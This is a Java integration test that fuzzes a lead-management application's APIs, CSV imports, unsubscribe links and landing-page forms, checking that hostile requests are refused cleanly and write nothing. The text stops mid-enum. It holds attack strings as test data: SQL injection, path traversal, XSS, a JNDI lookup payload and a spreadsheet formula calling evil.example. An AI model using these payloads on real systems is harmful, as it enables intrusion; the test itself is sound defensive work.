package io.leadflow.reliability;

import static io.leadflow.DemoUsers.ADMIN;
import static io.leadflow.DemoUsers.MANAGER;
import static io.leadflow.DemoUsers.MARKETING_OPS;
import static io.leadflow.DemoUsers.PASSWORD;
import static io.leadflow.DemoUsers.REP_EMEA;
import static org.assertj.core.api.Assertions.assertThat;

import com.jayway.jsonpath.JsonPath;
import io.leadflow.LeadflowIntegrationTest;
import io.leadflow.Mailbox;
import io.leadflow.mail.UnsubscribeLinks;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.camunda.bpm.engine.IdentityService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.http.client.ClientHttpRequestFactorySettings.Redirects;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;
import org.springframework.web.util.UriComponentsBuilder;

/**
 * Thousands of generated malformed, oversized and mutated requests against the capture API and list imports, and
 * hundreds against every other endpoint that takes a body: no answer is a 5xx, every refusal is a problem+json naming
 * what was wrong, a refused request writes no row, and the application is still healthy afterwards. The generator is
 * seeded, so a failure names the seed that reproduces it.
 */
@LeadflowIntegrationTest
class HostileInputIT {

  private static final long SEED = Long.getLong("hostile.seed", 20261123L);
  private static final int REQUESTS = Integer.getInteger("hostile.requests", 3000);
  // a lead that is nurtured, not routed: thousands of them must not fill the demo reps' capacity for other tests
  private static final String VALID_LEAD = """
      {"email":"%s","firstName":"Ada","lastName":"Lovelace","company":"Analytical Engines","jobTitle":"Analyst",
       "phone":"+49 30 1234567","country":"DE","sourceChannel":"web-form","campaign":"fuzz","requestType":"INQUIRY",
       "industry":"RETAIL","companySize":40,"jobLevel":"USER","budget":"NONE",
       "timeframe":"LATER"}""";

  private static final MediaType TEXT_CSV = MediaType.parseMediaType("text/csv");
  // two people, so that rows can be broken, repeated or lost; every upload lists the same two (each under a campaign
  // of its own), so the imports merge into two leads instead of filling the demo reps' capacity
  private static final String VALID_CSV = """
      email,firstName,lastName,company,country,companySize,marketingConsent
      "fuzz@list.example",Ada,Lovelace,"Analytical Engines, Ltd",GB,1500,yes
      "fuzz-too@list.example",Lin,Fuzz,Pages,DE,40,no
      """;
  private static final CSVFormat LIST = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true)
      .setIgnoreEmptyLines(true).setIgnoreSurroundingSpaces(true).setTrim(true).get();
  /** The leads this class writes, in SQL over leadflow.lead as l. */
  private static final String OUR_LEADS = "(l.email like 'fuzz-%@analytical-engines.example' "
      + "or l.email like 'fuzz%@list.example' or l.email like 'landing-fuzz-%@pages.example' "
      + "or l.email like 'unsubscribe-%@analytical-engines.example' or l.email like 'still-serving-%@pages.example')";
  // a busy machine makes background work slow, which is waited for; work that stands still this long has failed
  private static final Duration STALL = Duration.ofMinutes(1);
  private static final Duration LIMIT = Duration.ofMinutes(10);

  /** A lead that does not exist: the endpoints about one lead must refuse a bad body before they look it up. */
  private static final String NO_LEAD = "00000000-0000-0000-0000-00000000f022";

  /**
   * The other endpoints that take a body: who sends it, a valid request and the status it gets, and the rows the
   * endpoint writes (a query giving their fingerprint), which a refused request must leave as they were.
   */
  private static final List<Endpoint> ENDPOINTS = List.of(
      new Endpoint(ADMIN, HttpMethod.PUT, "/api/admin/teams/fuzz-team", """
          {"name":"Fuzz team","timeZone":"Europe/Berlin","workStart":"09:00","workEnd":"17:00",
           "workDays":["MONDAY","TUESDAY"],"holidayCalendar":"FUZZ","manager":"max"}""", 200,
          "select t::text || (select count(*) from act_id_group where id_ = t.id) from leadflow.sales_team t"
              + " where id = 'fuzz-team'"),
      // inactive and in a team of its own, so that whatever gets accepted never takes another test's lead
      new Endpoint(ADMIN, HttpMethod.PUT, "/api/admin/reps/fuzzrep", """
          {"team":"fuzz-team","capacity":5,"active":false}""", 200,
          "select r::text from leadflow.sales_rep r where user_id = 'fuzzrep'"),
      new Endpoint(MANAGER, HttpMethod.PUT, "/api/admin/reps/fuzzrep/out-of-office", """
          {"from":"2026-12-24","until":"2026-12-31"}""", 200,
          "select r::text from leadflow.sales_rep r where user_id = 'fuzzrep'"),
      new Endpoint(MANAGER, HttpMethod.PUT, "/api/admin/reps/fuzzrep/capacity", """
          {"capacity":7}""", 200, "select r::text from leadflow.sales_rep r where user_id = 'fuzzrep'"),
      // fuzzrep has no open leads: a valid request moves nothing
      new Endpoint(MANAGER, HttpMethod.POST, "/api/leads/reassignments", """
          {"from":"fuzzrep","note":"Fuzz"}""", 200, null),
      new Endpoint(MARKETING_OPS, HttpMethod.PUT, "/api/campaign-costs", """
          {"campaign":"fuzz","month":"2026-11","amount":1234.5}""", 200,
          "select c::text from leadflow.campaign_cost c where campaign like 'fuzz%'"),
      new Endpoint(ADMIN, HttpMethod.PUT, "/api/admin/customer-accounts/fuzz-customer.example", """
          {"name":"Fuzz Customer","owner":"fuzzrep","team":"fuzz-team"}""", 200,
          "select a::text from leadflow.customer_account a where domain = 'fuzz-customer.example'"),
      new Endpoint(ADMIN, HttpMethod.PUT, "/api/admin/target-accounts/fuzz-target.example", """
          {"name":"Fuzz Target","accountExecutive":"fuzzrep","team":"fuzz-team"}""", 200,
          "select a::text from leadflow.target_account a where domain = 'fuzz-target.example'"),
      new Endpoint(ADMIN, HttpMethod.PUT, "/api/admin/holidays/FUZZ/2027-01-04", """
          {"name":"Fuzz day"}""", 200, "select h::text from leadflow.holiday h where calendar = 'FUZZ'"),
      new Endpoint(ADMIN, HttpMethod.POST, "/api/admin/api-keys", """
          {"name":"fuzz-key","channel":"partner"}""", 201, "select k::text from leadflow.api_key k"),
      new Endpoint(MANAGER, HttpMethod.POST, "/api/planning/funnel", """
          {"revenueTarget":1000000,"averageDealSize":25000,"from":"2027-01-01","to":"2027-03-31","segment":"SMB",
           "conversionRates":{"inquiryToMql":0.2,"mqlToSal":0.5,"salToSql":0.5,"sqlToWon":0.3}}""", 200, null),
      new Endpoint(REP_EMEA, HttpMethod.PATCH, "/api/leads/" + NO_LEAD, """
          {"budget":"CONFIRMED","phone":"+49 30 901820","jobTitle":null}""", 404, null),
      new Endpoint(MANAGER, HttpMethod.PUT, "/api/leads/" + NO_LEAD + "/owner", """
          {"rep":"sam","note":"Speaks the language"}""", 404, null),
      new Endpoint(MARKETING_OPS, HttpMethod.POST, "/api/leads/" + NO_LEAD + "/erasure", """
          {"reason":"Asked by phone"}""", 404, null),
      new Endpoint(MARKETING_OPS, HttpMethod.POST, "/api/leads/" + NO_LEAD + "/activities", """
          {"type":"PRICING_PAGE_VISIT","occurredAt":"2026-11-20T10:00:00Z","url":"https://leadflow.example/pricing",
           "subject":"Pricing","campaign":"fuzz"}""", 404, null),
      new Endpoint(MARKETING_OPS, HttpMethod.POST, "/api/activities", """
          {"email":"nobody@fuzz.example","type":"EMAIL_CLICK","url":"https://leadflow.example/offer"}""", 404,
          null));

  @Autowired TestRestTemplate rest;
  @Autowired JdbcTemplate jdbc;
  @Autowired IdentityService identity;
  @Autowired UnsubscribeLinks links;
  @Autowired Mailbox mailbox;

  @Test
  void shouldAnswerEveryHostileRequestWithAClearRefusalAndWriteNothing() throws InterruptedException {
    Random random = new Random(SEED);
    long leadsBefore = leads();
    int created = 0;
    List<String> failures = new ArrayList<>();
    for (int n = 0; n < REQUESTS; n++) {
      Mutation mutation = Mutation.values()[random.nextInt(Mutation.values().length)];
      String body = mutation.apply(VALID_LEAD.formatted("fuzz-" + n + "@analytical-engines.example"), random);
      ResponseEntity<String> response = post(body, mutation.contentType());
      int status = response.getStatusCode().value();
      if (status == 201) {
        created++;
      } else if (status >= 500 || status < 400) {
        failures.add(n + " " + mutation + " -> " + status + ": " + abbreviate(body));
      } else if (!isProblem(response)) {
        failures.add(n + " " + mutation + " -> " + status + " without problem+json: " + abbreviate(body));
      }
    }

    long leadsAfterApi = leads();
    List<Queued> queued = new ArrayList<>();
    int refusedFiles = 0;
    for (int n = 0; n < REQUESTS / 10; n++) {
      ListMutation mutation = ListMutation.values()[random.nextInt(ListMutation.values().length)];
      String csv = mutation.apply(VALID_CSV, random);
      if (csv.equals(VALID_CSV)) {
        failures.add("import " + n + " " + mutation + " left the list as it was");
        continue;
      }
      ResponseEntity<String> response = upload(csv, n);
      int status = response.getStatusCode().value();
      if (status == 202) {
        queued.add(new Queued(JsonPath.read(response.getBody(), "$.id"), n + " " + mutation, csv));
      } else if (status == 400 && isProblem(response) && response.getBody().contains("\"field\":\"file\"")) {
        refusedFiles++;
      } else {
        failures.add("import " + n + " " + mutation + " -> " + status + " (a queued import or a problem naming the "
            + "file expected): " + abbreviate(response.getBody()) + " for " + abbreviate(csv));
      }
    }
    // a list that passed the upload's checks is imported in the background, to its end, row by row
    List<String> ids = queued.stream().map(Queued::id).toList();
    WhileProgressing.await("the queued imports", () -> unfinished(ids) == 0,
        () -> rowsImported(ids) + " rows imported, " + unfinished(ids) + " imports unfinished", STALL, LIMIT);
    int rejectedRows = 0;
    long createdByLists = 0;
    for (Queued list : queued) {
      Map<String, Object> report = jdbc.queryForMap("select status, failure, rows_read, created_count, merged_count, "
          + "unchanged_count, rejected_count from leadflow.lead_import where id = ?::uuid", list.id());
      String failure = checkImport(list, report);
      if (failure != null) {
        failures.add("import " + list.label() + ": " + failure + " " + report + " for " + abbreviate(list.csv()));
      }
      rejectedRows += (Integer) report.get("rejected_count");
      createdByLists += (Integer) report.get("created_count");
    }

    assertThat(failures).as("requests not answered with a problem+json 4xx (seed %d)", SEED).isEmpty();
    assertThat(leadsAfterApi - leadsBefore).as("leads written: exactly the accepted requests").isEqualTo(created);
    assertThat(leads() - leadsAfterApi).as("leads written by the lists: exactly their rows that created one")
        .isEqualTo(createdByLists);
    // the lists were hostile enough to be refused whole, and to get rows refused one by one
    assertThat(refusedFiles).as("lists refused at upload").isPositive();
    assertThat(rejectedRows).as("rows the imports rejected").isPositive();
    assertStillServing();
  }

  /** A list the upload accepted and queued for its import. */
  private record Queued(String id, String label, String csv) {
  }

  /** What is wrong with a finished import of the list, or null: every row read, and each imported or rejected. */
  private String checkImport(Queued list, Map<String, Object> report) {
    String id = list.id();
    if (!"DONE".equals(report.get("status"))) {
      return "not done";
    }
    int rows;
    try (CSVParser parser = LIST.parse(new StringReader(list.csv()))) {
      rows = parser.getRecords().size();
    } catch (IOException | RuntimeException unreadable) {
      return "accepted, but not a readable list: " + unreadable.getMessage();
    }
    int read = (Integer) report.get("rows_read");
    int created = (Integer) report.get("created_count");
    int merged = (Integer) report.get("merged_count");
    int rejected = (Integer) report.get("rejected_count");
    if (read != rows || created + merged + (Integer) report.get("unchanged_count") + rejected != read) {
      return "rows of the list: " + rows;
    }
    long reasons = jdbc.queryForObject("select count(*) from leadflow.lead_import_rejection where import_id = ?::uuid "
        + "and reasons <> ''", Long.class, id);
    long inquiries = jdbc.queryForObject("select count(*) from leadflow.inquiry where import_id = ?::uuid", Long.class,
        id);
    long fromRejectedRows = jdbc.queryForObject("select count(*) from leadflow.inquiry i "
        + "join leadflow.lead_import_rejection r on r.import_id = i.import_id and r.line = i.import_line "
        + "where i.import_id = ?::uuid", Long.class, id);
    if (reasons != rejected || inquiries != created + merged || fromRejectedRows != 0) {
      return reasons + " rejections with reasons, " + inquiries + " responses recorded, " + fromRejectedRows
          + " of them from rejected rows";
    }
    return null;
  }

  private long unfinished(Collection<String> imports) {
    return imports.isEmpty() ? 0 : jdbc.queryForObject("select count(*) from leadflow.lead_import "
        + "where id::text in (" + String.join(",", imports.stream().map(id -> "'" + id + "'").toList()) + ") "
        + "and status in ('QUEUED', 'RUNNING')", Long.class);
  }

  private long rowsImported(Collection<String> imports) {
    return imports.isEmpty() ? 0 : jdbc.queryForObject("select coalesce(sum(rows_read), 0) from leadflow.lead_import "
        + "where id::text in (" + String.join(",", imports.stream().map(id -> "'" + id + "'").toList()) + ")",
        Long.class);
  }

  @Test
  void shouldRefuseHostileRequestsToEveryOtherEndpointAndChangeNothingThen() throws InterruptedException {
    if (identity.createUserQuery().userId("fuzzrep").count() == 0) {
      var user = identity.newUser("fuzzrep");
      user.setEmail("fuzzrep@leadflow.example");
      user.setPassword(PASSWORD);
      identity.saveUser(user);
    }
    Random random = new Random(SEED);
    List<String> failures = new ArrayList<>();
    for (Endpoint endpoint : ENDPOINTS) {
      ResponseEntity<String> valid = send(endpoint, endpoint.validBody(), MediaType.APPLICATION_JSON);
      assertThat(valid.getStatusCode().value()).as(endpoint.path() + ": " + valid.getBody())
          .isEqualTo(endpoint.validStatus());
      String rows = endpoint.rows() == null ? "" : rows(endpoint);
      for (int n = 0; n < REQUESTS / 20; n++) {
        Mutation mutation = Mutation.values()[random.nextInt(Mutation.values().length)];
        String body = mutation.apply(endpoint.validBody(), random);
        ResponseEntity<String> response = send(endpoint, body, mutation.contentType());
        int status = response.getStatusCode().value();
        String request = endpoint.method() + " " + endpoint.path() + " " + mutation;
        if (status >= 500 || status < 200 || (status >= 300 && status < 400)) {
          failures.add(request + " -> " + status + ": " + abbreviate(body));
        } else if (status >= 400 && !isProblem(response)) {
          failures.add(request + " -> " + status + " without problem+json: " + abbreviate(body));
        } else if (endpoint.rows() != null) {
          String after = rows(endpoint);
          if (status >= 400 && !after.equals(rows)) {
            failures.add(request + " -> " + status + " but changed " + abbreviate(after) + ": " + abbreviate(body));
          }
          rows = after;
        }
      }
    }

    assertThat(failures).as("requests not answered with a problem+json 4xx (seed %d)", SEED).isEmpty();
    assertStillServing();
  }

  @Test
  void shouldRefuseHostileCompanyListsAndChangeNoCompanyThen() throws InterruptedException {
    String valid = """
        domain,name,industry,companySize
        fuzz-company.example,"Fuzz Company, Inc",SOFTWARE,250
        """;
    Endpoint companies = new Endpoint(ADMIN, HttpMethod.PUT, "/api/admin/companies", valid, 200,
        "select c::text from leadflow.company_reference c");
    assertThat(send(companies, valid, TEXT_CSV).getStatusCode().value()).isEqualTo(200);
    Random random = new Random(SEED);
    List<String> failures = new ArrayList<>();
    String rows = rows(companies);
    int refused = 0;
    for (int n = 0; n < REQUESTS / 20; n++) {
      boolean csvMutation = random.nextBoolean();
      String body = csvMutation ? CsvMutation.apply(valid, random)
          : Mutation.ANY_TEXT.get(random.nextInt(Mutation.ANY_TEXT.size())).apply(valid, random);
      if (body.equals(valid)) {
        // a flipped character that happened to be the same one: not a hostile list
        continue;
      }
      // now and then the wrong kind of body altogether
      MediaType type = random.nextInt(10) == 0 ? MediaType.APPLICATION_JSON : TEXT_CSV;
      ResponseEntity<String> response = send(companies, body, type);
      int status = response.getStatusCode().value();
      refused += status >= 400 ? 1 : 0;
      String after = rows(companies);
      if (status >= 500 || status < 200 || (status >= 300 && status < 400)) {
        failures.add("companies -> " + status + ": " + abbreviate(body));
      } else if (status >= 400 && !isProblem(response)) {
        failures.add("companies -> " + status + " without problem+json: " + abbreviate(body));
      } else if (status >= 400 && !after.equals(rows)) {
        failures.add("companies -> " + status + " but changed the reference: " + abbreviate(body));
      }
      rows = after;
    }

    assertThat(failures).as("company lists not answered with a problem+json 4xx (seed %d)", SEED).isEmpty();
    assertThat(refused).as("broken lists refused").isGreaterThan(REQUESTS / 20 / 2);
    assertStillServing();
  }

  @Test
  void shouldAnswerBrokenOrForgedUnsubscribeLinksWithAPageAndUnsubscribeNobody() throws InterruptedException {
    // real leads, so that tokens forged for one are tried too: near misses of its genuine token, and another's
    String someLead = createdLead("unsubscribe-" + UUID.randomUUID() + "@analytical-engines.example");
    String otherLead = createdLead("unsubscribe-" + UUID.randomUUID() + "@analytical-engines.example");
    String genuine = token(someLead);
    String[] leads = {someLead, someLead, "not-a-uuid", "", "00000000-0000-0000-0000-000000000000",
        someLead + "' or '1'='1", "x".repeat(10_000), "\u0000", "%00", "../../etc/passwd"};
    String[] tokens = Stream.of("", "AAAA", "x".repeat(10_000), "\u0000", "<script>alert(1)</script>", "Zm9v.YmFy",
            "${jndi:ldap://x/a}", "%ZZ", genuine.toUpperCase(Locale.ROOT), genuine.toLowerCase(Locale.ROOT),
            genuine.substring(1), genuine.substring(0, genuine.length() - 1), genuine + "A", genuine + "=",
            " " + genuine, genuine.replace('-', '+').replace('_', '/'),
            genuine.substring(0, genuine.length() - 1) + (genuine.endsWith("A") ? "B" : "A"), token(otherLead))
        .filter(token -> !token.equals(genuine)).toArray(String[]::new);
    String unsubscribed = "select count(*) from leadflow.lead where unsubscribed_at is not null";
    Long before = jdbc.queryForObject(unsubscribed, Long.class);
    Random random = new Random(SEED);
    List<String> failures = new ArrayList<>();
    for (int n = 0; n < REQUESTS / 20; n++) {
      MultiValueMap<String, String> parameters = new LinkedMultiValueMap<>();
      if (random.nextInt(8) != 0) {
        parameters.add("lead", leads[random.nextInt(leads.length)]);
      }
      if (random.nextInt(8) != 0) {
        parameters.add("token", tokens[random.nextInt(tokens.length)]);
      }
      boolean oneClick = random.nextBoolean();
      ResponseEntity<String> response;
      String query = parameters.entrySet().stream()
          .map(parameter -> parameter.getKey() + "="
              + URLEncoder.encode(parameter.getValue().get(0), StandardCharsets.UTF_8))
          .collect(Collectors.joining("&"));
      if (oneClick) {
        parameters.add("List-Unsubscribe", "One-Click");
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.APPLICATION_FORM_URLENCODED);
        response = rest.postForEntity("/unsubscribe", new HttpEntity<>(parameters, headers), String.class);
      } else {
        response = rest.getForEntity(URI.create("/unsubscribe?" + query), String.class);
      }
      int status = response.getStatusCode().value();
      MediaType type = response.getHeaders().getContentType();
      // a link over the 8 KB request line limit never reaches the page (no mail holds such a link): Tomcat refuses it
      boolean overLimit = !oneClick && query.length() > 8 * 1024;
      boolean answered = overLimit ? status == 400 && isProblem(response)
          : status == 400 && type != null && type.isCompatibleWith(MediaType.TEXT_HTML)
              && response.getBody() != null && response.getBody().contains("This link is not valid");
      if (!answered) {
        failures.add((oneClick ? "POST " : "GET ") + parameters.keySet() + " -> " + status + " " + type);
      }
    }

    assertThat(failures).as("unsubscribe links not answered with the invalid-link page (seed %d)", SEED).isEmpty();
    assertThat(jdbc.queryForObject(unsubscribed, Long.class)).as("leads unsubscribed").isEqualTo(before);

    // the genuine link the forgeries missed: opening it only asks to confirm, its button unsubscribes the lead
    assertThat(rest.getForEntity(URI.create("/unsubscribe?lead=" + someLead + "&token=" + genuine), String.class)
        .getStatusCode().value()).isEqualTo(200);
    assertThat(jdbc.queryForObject(unsubscribed, Long.class)).as("leads unsubscribed by opening the link")
        .isEqualTo(before);
    MultiValueMap<String, String> button = new LinkedMultiValueMap<>();
    button.add("lead", someLead);
    button.add("token", genuine);
    assertThat(rest.postForEntity("/unsubscribe", button, String.class).getStatusCode().value()).isEqualTo(200);
    assertThat(jdbc.queryForObject(unsubscribed, Long.class)).as("leads unsubscribed by the genuine link")
        .isEqualTo(before + 1);
    assertStillServing();
  }

  @Test
  void shouldAnswerHostileLandingPagePostsWithAPageAndCaptureNoRefusedVisitor() throws InterruptedException {
    Random random = new Random(SEED);
    List<String> failures = new ArrayList<>();
    int refused = 0;
    for (int n = 0; n < REQUESTS / 20; n++) {
      MultiValueMap<String, String> form = new LinkedMultiValueMap<>();
      form.add("email", "landing-fuzz-" + n + "@pages.example");
      form.add("firstName", "Lin");
      form.add("lastName", "Fuzz");
      form.add("company", "Pages");
      form.add("country", "DE");
      form.add("campaign", "fuzz");
      form.add("marketingConsent", "true");
      form.add("website", "");
      String how = FormMutation.values()[random.nextInt(FormMutation.values().length)].apply(form, random);
      HttpHeaders headers = new HttpHeaders();
      headers.setContentType(MediaType.APPLICATION_FORM_URLENCODED);
      // a visitor of their own each time (the test client is a trusted proxy): the rate limit is LeadIntakeIT's
      headers.set("X-Forwarded-For", "198.19." + (n / 250) + "." + (n % 250 + 1));
      long before = leads();
      ResponseEntity<String> answer = rest.withRedirects(Redirects.DONT_FOLLOW).postForEntity("/landing/leads",
          new HttpEntity<>(form, headers), String.class);
      int status = answer.getStatusCode().value();
      MediaType type = answer.getHeaders().getContentType();
      if (status == 303) {
        continue;
      }
      refused++;
      if (status != 400 || type == null || !type.isCompatibleWith(MediaType.TEXT_HTML)
          || answer.getBody() == null || !answer.getBody().contains("Please check your details")) {
        failures.add(n + " " + how + " -> " + status + " " + type);
      } else if (leads() != before) {
        failures.add(n + " " + how + " -> 400 but captured the visitor");
      }
    }

    assertThat(failures).as("landing page posts not answered with the form's error page (seed %d)", SEED).isEmpty();
    assertThat(refused).as("broken posts refused").isGreaterThan(REQUESTS / 20 / 2);
    assertStillServing();
  }

  /** What a bot or a broken browser extension does to a landing page form: fields, not bytes. */
  enum FormMutation {
    DROP_REQUIRED_FIELD {
      @Override
      String apply(MultiValueMap<String, String> form, Random random) {
        String field = any(random, "email", "firstName", "lastName", "company", "country");
        form.remove(field);
        return "without " + field;
      }
    },
    OVERSIZE {
      @Override
      String apply(MultiValueMap<String, String> form, Random random) {
        String field = any(random, "email", "firstName", "lastName", "company", "campaign");
        form.set(field, "x".repeat(300 + random.nextInt(100_000)));
        return field + " oversized";
      }
    },
    CONTROL_CHARACTERS_AND_SCRIPT {
      @Override
      String apply(MultiValueMap<String, String> form, Random random) {
        String field = any(random, "email", "firstName", "company", "country");
        form.set(field, any(random, "\u0000", "a\u0000b", "<script>alert(1)</script>@x.example", "\u202eevil",
            "${jndi:ldap://x/a}"));
        return field + " with control characters or script";
      }
    },
    WRONG_VALUE {
      @Override
      String apply(MultiValueMap<String, String> form, Random random) {
        String[][] wrong = {{"email", "not-an-address"}, {"country", "XX"}, {"companySize", "-5"},
            {"companySize", "abc"}, {"requestType", "NOPE"}, {"marketingConsent", "maybe"},
            {"followUpOn", "tomorrow"}};
        String[] pick = wrong[random.nextInt(wrong.length)];
        form.set(pick[0], pick[1]);
        return pick[0] + "=" + pick[1];
      }
    },
    UNKNOWN_FIELD {
      @Override
      String apply(MultiValueMap<String, String> form, Random random) {
        String field = any(random, "isAdmin", "id", "stage", "owner", "score");
        form.set(field, "x");
        return "with " + field;
      }
    };

    abstract String apply(MultiValueMap<String, String> form, Random random);

    private static String any(Random random, String... choices) {
      return choices[random.nextInt(choices.length)];
    }
  }

  private record Endpoint(String user, HttpMethod method, String path, String validBody, int validStatus,
      String rows) {
  }

  /**
   * The application still does its work after the hostile requests: healthy by Actuator, every step of the leads this
   * class wrote run without a failure (nothing it accepted breaks a step later), and a new lead captured and
   * acknowledged by mail as any other.
   */
  private void assertStillServing() throws InterruptedException {
    assertThat(rest.getForEntity("/actuator/health", String.class).getBody()).contains("\"UP\"");
    String email = "still-serving-" + UUID.randomUUID() + "@pages.example";
    createdLead(email);
    WhileProgressing.await("the due steps of the leads this class wrote", () -> dueStepsOfOurLeads() == 0,
        () -> jdbc.queryForObject("select count(*) from public.act_hi_job_log", Long.class) + " job log entries",
        STALL, LIMIT);
    assertThat(jdbc.queryForList("""
        select l.email || ': ' || coalesce(j.failed_act_id_, j.type_) || ' failed: ' || j.exception_msg_
        from public.act_ru_job j join public.act_ru_execution p on p.id_ = j.process_instance_id_
        join leadflow.lead l on l.id::text = p.business_key_ where j.exception_msg_ is not null and """ + OUR_LEADS
        + """
         union all select l.email || ': ' || coalesce(i.activity_id_, '-') || ' ' || i.incident_type_ || ': '
          || coalesce(i.incident_msg_, '(no message)')
        from public.act_ru_incident i join public.act_ru_execution p on p.id_ = i.proc_inst_id_
        join leadflow.lead l on l.id::text = p.business_key_ where """ + OUR_LEADS, String.class))
        .as("failed steps of the leads this class wrote").isEmpty();
    assertThat(mailbox.receivedBy(email)).as("mail to a lead captured afterwards").hasSize(1);
  }

  private long dueStepsOfOurLeads() {
    return jdbc.queryForObject("""
        select count(*) from public.act_ru_job j join public.act_ru_execution p on p.id_ = j.process_instance_id_
        join leadflow.lead l on l.id::text = p.business_key_
        where j.retries_ > 0 and j.exception_msg_ is null and j.suspension_state_ = 1
          and (j.duedate_ is null or j.duedate_ <= now()) and """ + OUR_LEADS, Long.class);
  }

  /** A lead captured through the API as marketing ops do; its id. */
  private String createdLead(String email) {
    ResponseEntity<String> created = post(VALID_LEAD.formatted(email), MediaType.APPLICATION_JSON);
    assertThat(created.getStatusCode().value()).as(created.getBody()).isEqualTo(201);
    return JsonPath.read(created.getBody(), "$.id");
  }

  /** The token of the lead's genuine unsubscribe link, as its mails carry it. */
  private String token(String leadId) {
    return UriComponentsBuilder.fromUriString(links.url(UUID.fromString(leadId))).build().getQueryParams()
        .getFirst("token");
  }

  private ResponseEntity<String> send(Endpoint endpoint, String body, MediaType contentType) {
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(contentType);
    return rest.withBasicAuth(endpoint.user(), PASSWORD).exchange(endpoint.path(), endpoint.method(),
        new HttpEntity<>(body.getBytes(StandardCharsets.UTF_8), headers), String.class);
  }

  private String rows(Endpoint endpoint) {
    return String.join("|", jdbc.queryForList(endpoint.rows() + " order by 1", String.class));
  }

  private ResponseEntity<String> post(String body, MediaType contentType) {
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(contentType);
    return rest.withBasicAuth(MARKETING_OPS, PASSWORD).exchange("/api/leads", HttpMethod.POST,
        new HttpEntity<>(body.getBytes(StandardCharsets.UTF_8), headers), String.class);
  }

  /** A CSV list upload; each under its own campaign, so that no upload is a repeat of another. */
  private ResponseEntity<String> upload(String csv, int n) {
    MultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
    parts.add("file", new ByteArrayResource(csv.getBytes(StandardCharsets.UTF_8)) {
      @Override
      public String getFilename() {
        return "fuzz.csv";
      }
    });
    parts.add("channel", "trade-show");
    parts.add("campaign", "fuzz " + n);
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.MULTIPART_FORM_DATA);
    return rest.withBasicAuth(MARKETING_OPS, PASSWORD).postForEntity("/api/leads/imports",
        new HttpEntity<>(parts, headers), String.class);
  }

  private static boolean isProblem(ResponseEntity<String> response) {
    MediaType type = response.getHeaders().getContentType();
    return type != null && type.isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON) && response.getBody() != null
        && response.getBody().contains("\"status\"");
  }

  private long leads() {
    return jdbc.queryForObject("select count(*) from leadflow.lead", Long.class);
  }

  private static String abbreviate(String body) {
    return body.length() > 200 ? body.substring(0, 200) + "..." : body;
  }

  /** The ways a broken spreadsheet export mangles a CSV list: cells, not JSON fields. */
  static final class CsvMutation {

    private static final String[] CELLS = {"", "-5", "1e309", "9999999999999999999", "abc", "\u0000",
        "x".repeat(5000), "\"unclosed", "=HYPERLINK(\"http://evil.example\")", "no-dot", "a,b,c,d,e,f"};

    private CsvMutation() {
    }

    /** One cell of the data row replaced, or the header row broken. */
    static String apply(String csv, Random random) {
      String[] lines = csv.split("\n");
      if (random.nextInt(5) == 0) {
        lines[0] = random.nextBoolean() ? "domain,name" : "domain,name,industry,companySize,secret";
        return String.join("\n", lines);
      }
      String[] cells = lines[1].split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)");
      cells[random.nextInt(cells.length)] = CELLS[random.nextInt(CELLS.length)];
      lines[1] = String.join(",", cells);
      return String.join("\n", lines) + "\n";
    }
  }

  /**
   * The ways a spreadsheet, a broken export or an attacker mangles a list of leads: its cells, rows, header and
   * characters. Each changes the list it is given.
   */
  enum ListMutation {
    HOSTILE_CELL {
      @Override
      String apply(String csv, Random random) {
        String[] lines = csv.split("\n");
        int row = 1 + random.nextInt(lines.length - 1);
        String[] cells = lines[row].split(CELL_BOUNDARY);
        int cell = random.nextInt(cells.length);
        String value;
        do {
          value = CELLS[random.nextInt(CELLS.length)];
        } while (value.equals(cells[cell]));
        cells[cell] = value;
        lines[row] = String.join(",", cells);
        return String.join("\n", lines) + "\n";
      }
    },
    BROKEN_HEADER {
      @Override
      String apply(String csv, Random random) {
        String[] lines = csv.split("\n");
        String[] header = lines[0].split(",");
        lines[0] = switch (random.nextInt(6)) {
          case 0 -> lines[0] + ",secret";
          case 1 -> String.join(",", List.of(header).subList(0, header.length - 1));
          case 2 -> lines[0] + ",email";
          case 3 -> lines[0].toUpperCase(Locale.ROOT);
          case 4 -> lines[0].replace(',', ';');
          default -> "";
        };
        return String.join("\n", lines) + "\n";
      }
    },
    BROKEN_ROW {
      @Override
      String apply(String csv, Random random) {
        String[] lines = csv.split("\n");
        int row = 1 + random.nextInt(lines.length - 1);
        String[] cells = lines[row].split(CELL_BOUNDARY);
        lines[row] = switch (random.nextInt(4)) {
          case 0 -> String.join(",", List.of(cells).subList(0, 1 + random.nextInt(cells.length - 1)));
          case 1 -> lines[row] + ",extra,cells";
          case 2 -> ",".repeat(cells.length - 1);
          default -> lines[row].replaceFirst(",", ",\"");
        };
        return String.join("\n", lines) + "\n";
      }
    },
    REPEATED_OR_SPACED_ROWS {
      @Override
      String apply(String csv, Random random) {
        String[] lines = csv.split("\n");
        return switch (random.nextInt(3)) {
          case 0 -> csv + lines[1 + random.nextInt(lines.length - 1)] + "\n";
          case 1 -> String.join("\n\n \n", lines) + "\n";
          default -> String.join("\r\n", lines) + "\r\n";
        };
      }
    },
    TRUNCATED {
      @Override
      String apply(String csv, Random random) {
